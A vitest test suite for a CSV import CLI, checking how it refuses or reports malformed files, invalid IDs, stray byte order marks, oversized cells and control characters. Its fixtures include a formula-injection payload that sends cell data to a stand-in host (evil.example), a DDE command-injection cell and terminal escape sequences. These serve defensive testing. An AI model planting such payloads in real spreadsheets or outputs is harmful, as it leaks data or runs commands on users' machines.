import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dryRun, expectConsistent, fixture } from '../support/badinput.ts';

/**
 * The bad-input corpus through the real CLI (child process, dry run). Each case asserts the exit code, one
 * report line per record in input order, a message naming line and column (or the file-level reason), the raw
 * rows in rejected.csv, and summary counts equal to the report's.
 */

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'badinput-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** A refused file: exit 2, the reason printed and in summary.json, no report lines, nothing read. */
async function expectRefused(name: string, content: Buffer | string, code: string, reason: RegExp) {
  const r = await dryRun(dir, name, content);
  expect(r.code).toBe(2);
  expect(r.stderr).toMatch(new RegExp(`refused: ${code}: `));
  expect(r.stderr).toMatch(reason);
  expect(r.files.summary.refused).toMatchObject({ code });
  expect(r.files.summary.refused!.message).toMatch(reason);
  expect(r.files.summary).toMatchObject({ rows: 0, complete: false });
  expect(r.files.report).toEqual([]);
  expect(r.files.reportText).toBe('line,id,status,error_code,error_message,attempts\r\n');
  return r;
}

describe('file-level refusals (exit 2)', () => {
  it('an empty file, and one of blank lines only', async () => {
    await expectRefused('empty.csv', '', 'EMPTY_FILE', /the file is empty/);
    await expectRefused('blank.csv', '\r\n\n  \r\n', 'EMPTY_FILE', /the file is empty/);
    await expectRefused('bom-only.csv', Buffer.from([0xef, 0xbb, 0xbf]), 'EMPTY_FILE', /the file is empty/);
  });

  it('no ID column names the missing column', async () => {
    const r = await expectRefused('noid.csv', 'TITLE,NAME\nAcme,Ann\n', 'MISSING_ID_COLUMN', /no ID column/);
    // rejected.csv is the user's header, ready to fix and re-upload.
    expect(r.files.rejected.toString()).toBe('TITLE,NAME\r\n');
  });

  it('duplicate columns name both columns and their positions', async () => {
    await expectRefused(
      'dup.csv',
      'ID,TITLE,Title\n1,a,b\n',
      'DUPLICATE_COLUMN',
      /\n {2}"Title" \(column 3\): TITLE is already set by "TITLE", column 2/,
    );
  });

  it('an unknown column is named, with a suggestion; every header problem is listed in one refusal', async () => {
    await expectRefused(
      'unknown.csv',
      'ID,TITEL,PHONE_CELL\n1,a,b\n',
      'UNKNOWN_COLUMN',
      /\n {2}"TITEL" \(column 2\): did you mean TITLE\?\n {2}"PHONE_CELL" \(column 3\): did you mean PHONE_MOBILE\?/,
    );
  });

  it('binary garbage: NUL bytes, a ZIP/xlsx, control-character soup', async () => {
    let seed = 7;
    const rnd = () => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return (seed >>> 16) & 0xff;
    };
    const garbage = Buffer.from(Array.from({ length: 20_000 }, rnd));
    expect(garbage.includes(0)).toBe(true);
    await expectRefused('garbage.csv', garbage, 'NOT_TEXT', /not a CSV text file: it contains NUL bytes/);
    await expectRefused(
      'book.csv',
      Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(100, 1)]),
      'NOT_TEXT',
      /Excel workbook \(\.xlsx\)/,
    );
    const soup = Buffer.from(Array.from({ length: 5000 }, (_, i) => (i % 3 === 0 ? 0x41 : 1 + (i % 8))));
    await expectRefused('soup.csv', soup, 'NOT_TEXT', /control characters/);
  });

  it('high bytes without NULs read as words in no code page: refused as such, the message kept short', async () => {
    const noise = Buffer.from(Array.from({ length: 3000 }, (_, i) => 0x80 + ((i * 37) % 128)));
    const r = await expectRefused('noise.csv', noise, 'UNSURE_ENCODING', /does not read as words in any code page/);
    expect(r.files.summary.refused!.message.length).toBeLessThan(500);
  });

  it('a hostile header (a 900 KB cell, 20,000 unknown columns, escape codes) gets a bounded message', async () => {
    // The refusal travels in the run state (Step Functions: 256 KB) and is printed: it must stay small.
    const huge = await expectRefused(
      'hugeheader.csv',
      `ID,TITLEX${'x'.repeat(900_000)}\n1,a\n`,
      'UNKNOWN_COLUMN',
      /\n {2}"TITLEXx+…" \(column 2\)/,
    );
    expect(huge.files.summaryText.length).toBeLessThan(2000);
    const many = await expectRefused(
      'manyheader.csv',
      `ID,${Array.from({ length: 20_000 }, (_, i) => `COL${i}`).join(',')}\n1\n`,
      'UNKNOWN_COLUMN',
      /\n… and \d+ more problems($|\n)/,
    );
    expect(many.stderr.length).toBeLessThan(10_000);
    const esc = await expectRefused(
      'escheader.csv',
      `ID,\x1b[2J\x1b]0;pwned\x07\n${'1,a\n'.repeat(50)}`,
      'UNKNOWN_COLUMN',
      /\n {2}"\\u001B\[2J\\u001B\]0;pwned\\u0007" \(column 2\)/,
    );
    expect(esc.stderr + esc.files.summaryText).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
  });

  it('UTF-16 (LE with BOM, BE with BOM, LE without BOM) is refused with the way out', async () => {
    const text = 'ID,TITLE\r\n1,Заявка\r\n';
    const le = Buffer.from(text, 'utf16le');
    const be = Buffer.from(le).swap16();
    await expectRefused(
      'u16le.csv',
      Buffer.concat([Buffer.from([0xff, 0xfe]), le]),
      'UNSUPPORTED_ENCODING',
      /UTF-16.*save it as "CSV UTF-8"/,
    );
    await expectRefused('u16be.csv', Buffer.concat([Buffer.from([0xfe, 0xff]), be]), 'UNSUPPORTED_ENCODING', /UTF-16/);
    await expectRefused('u16raw.csv', le, 'UNSUPPORTED_ENCODING', /looks like UTF-16 text/);
  });
});

describe('rows: one report line each, in input order', () => {
  it('header only: exit 0, zero rows, complete', async () => {
    const f = fixture('ID,TITLE', []);
    const r = await dryRun(dir, 'header.csv', f);
    expect(r.code).toBe(0);
    expect(r.files.summary).toMatchObject({ rows: 0, complete: true });
    expectConsistent(r.files, f);
  });

  it('too many or too few cells: ROW_CELL_COUNT naming the line; trailing empty cells are fine', async () => {
    const f = fixture('ID,TITLE,NAME', ['1,a,b', '2,a', '3,a,b,c', '4,a,b,,', '5', '6,"x,y",z']);
    const r = await dryRun(dir, 'cells.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    expect(r.files.report.map((x) => [x.status, x.error_code, x.error_message])).toEqual([
      ['valid', '', ''],
      ['invalid', 'ROW_CELL_COUNT', 'line 3: 2 cells, the header has 3'],
      ['invalid', 'ROW_CELL_COUNT', 'line 4: 4 cells, the header has 3'],
      ['valid', '', ''],
      ['invalid', 'ROW_CELL_COUNT', 'line 6: 1 cell, the header has 3'],
      ['valid', '', ''],
    ]);
  });

  it('an unclosed quote in the middle: rows before it reported, the run cut short at its line (exit 1)', async () => {
    const f = fixture('ID,TITLE', ['1,a', '2,"b', '3,c', '4,d']);
    const r = await dryRun(dir, 'unclosed.csv', f);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/cut short: malformed CSV at line 3: a quoted field is never closed \(unclosed quote\)/);
    expect(r.files.summary).toMatchObject({ complete: false, cutShort: { line: 3 } });
    expectConsistent(r.files, f, [2]);
  });

  it('mixed line endings (CRLF, LF, lone CR, quoted breaks): every record on its own line number', async () => {
    const f = fixture(
      'ID,TITLE',
      [
        { raw: '1,a', eol: '\r\n' },
        { raw: '2,b', eol: '\n' },
        { raw: '3,c', eol: '\r' },
        { raw: '4,"multi\r\nline"', eol: '\n' },
        { raw: '', eol: '\r\n' },
        { raw: 'x5,bad', eol: '\r' },
        { raw: '6,"lone\rcr"', eol: '\r\n' },
        { raw: '7,g', eol: '' },
      ],
      { eol: '\r\n' },
    );
    expect(f.lines).toEqual([2, 3, 4, 5, 8, 9, 11]);
    const r = await dryRun(dir, 'mixed.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    expect(r.files.report.find((x) => x.line === '8')).toMatchObject({ status: 'invalid', error_code: 'INVALID_ID', id: 'x5' });
    expect(r.files.report.find((x) => x.line === '8')!.error_message).toMatch(/^line 8, ID: "x5" is not a lead ID/);
  });

  it('IDs that are zero, negative, decimal, huge or text: INVALID_ID naming line and column', async () => {
    const ids = [
      '0',
      '-5',
      '1.5',
      '1,5',
      '99999999999999999999',
      '2147483648',
      'abc',
      '+8',
      '1e3',
      '0x10',
      '#N/A',
      '',
      ' 7 ',
      '2147483647',
      '12abc',
    ];
    const f = fixture(
      'ID;TITLE',
      ids.map((id) => `${id.includes(',') ? `"${id}"` : id};t`),
    );
    const r = await dryRun(dir, 'ids.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    const byId = r.files.report.map((x) => [x.status, x.error_code]);
    expect(byId.filter(([s]) => s === 'valid')).toHaveLength(2); // ' 7 ' and 2147483647
    for (const [i, row] of r.files.report.entries()) {
      const id = ids[i].trim();
      if (id === '7' || id === '2147483647') continue;
      expect(row).toMatchObject({ status: 'invalid', error_code: 'INVALID_ID' });
      expect(row.error_message).toMatch(new RegExp(`^line ${f.lines[i]}, ID: `));
    }
    expect(r.files.report[1].id).toBe("'-5"); // a negative ID is not a formula in Excel
    expect(r.files.report[4].error_message).toMatch(/too large \(the largest ID is 2147483647\)/);
    expect(r.files.report[10].error_message).toMatch(/clear marker/);
    expect(r.files.report[11].error_message).toMatch(/the ID is empty/);
  });

  it('formulas are data (valid, sent unchanged); control characters are refused by column, shown escaped', async () => {
    const f = fixture('ID,TITLE,COMMENTS', [
      '1,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",ok',
      "2,+cmd|' /C calc'!A0,-2+3",
      '3,a\x01b,c',
      '4,"x\x1b[31my",d',
      '5,@SUM(1),"tab\tinside"',
      '6,del\x7f,z',
    ]);
    const r = await dryRun(dir, 'formula.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    expect(r.files.report.map((x) => x.status)).toEqual(['valid', 'valid', 'invalid', 'invalid', 'valid', 'invalid']);
    expect(r.files.report[2]).toMatchObject({
      error_code: 'CONTROL_CHARACTER',
      error_message: 'line 4, TITLE: "a\\u0001b" contains a control character (U+0001)',
    });
    expect(r.files.report[3].error_message).toBe('line 5, TITLE: "x\\u001B[31my" contains a control character (U+001B)');
    expect(r.files.report[5].error_message).toMatch(/^line 7, TITLE: .*U\+007F/);
    // No raw control character reaches the report; rejected.csv keeps them (checked byte for byte above).
    expect(r.files.reportText).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/);
  });

  it('a cell over the cell limit (200 KB, default limit 64 KiB): CELL_TOO_LARGE, the rest of the file processed', async () => {
    const big = 'x'.repeat(200_000);
    const f = fixture('ID,TITLE,COMMENTS', ['1,a,b', `2,"${big}",c`, `3,d,${big}`, '4,e,f']);
    const r = await dryRun(dir, 'bigcell.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    expect(r.files.report.map((x) => x.error_code)).toEqual(['', 'CELL_TOO_LARGE', 'CELL_TOO_LARGE', '']);
    expect(r.files.report[1].error_message).toBe('line 3, TITLE: the cell is 200000 bytes, over the 65536-byte limit');
    expect(r.files.report[2].error_message).toBe('line 4, COMMENTS: the cell is 200000 bytes, over the 65536-byte limit');
    expect(r.files.reportText.length).toBeLessThan(1000); // the cell is not copied into the report
  });
});

describe('byte order marks where they do not belong', () => {
  it('a BOM inside the header (two files concatenated) is stripped from the header cell, which still matches', async () => {
    const f = fixture('ID,\uFEFFTITLE, \uFEFFNAME', ['1,a,b'], { bom: true });
    const r = await dryRun(dir, 'bomheader.csv', f);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expectConsistent(r.files, f);
  });

  it('a BOM at the start of a later line or inside a value: removed, and the row says so (line and column)', async () => {
    const f = fixture('ID,TITLE', ['1,a', '\uFEFF2,b', '3,\uFEFFc', '4,x\uFEFFy'], { bom: true });
    const r = await dryRun(dir, 'bomdata.csv', f);
    expect(r.code).toBe(0);
    expectConsistent(r.files, f);
    expect(r.files.report.map((x) => [x.id, x.status, x.error_message])).toEqual([
      ['1', 'valid', ''],
      ['2', 'valid', 'line 3, ID: a stray byte order mark (U+FEFF, e.g. from a second file pasted in) was removed from the value'],
      ['3', 'valid', 'line 4, TITLE: a stray byte order mark (U+FEFF, e.g. from a second file pasted in) was removed from the value'],
      ['4', 'valid', 'line 5, TITLE: a stray byte order mark (U+FEFF, e.g. from a second file pasted in) was removed from the value'],
    ]);
    expect(r.files.summary.warnings).toBe(3);
  });

  it('a second file appended with its BOM and header: the repeated header line is invalid, saying why', async () => {
    const f = fixture('ID,TITLE', ['1,a', '\uFEFFID,TITLE', '2,b'], { bom: true });
    const r = await dryRun(dir, 'concat.csv', f);
    expect(r.code).toBe(1);
    expectConsistent(r.files, f);
    expect(r.files.report[1]).toMatchObject({
      line: '3',
      status: 'invalid',
      error_code: 'INVALID_ID',
      error_message: 'line 3: the header line again (two files joined together?); the row is skipped',
    });
  });
});
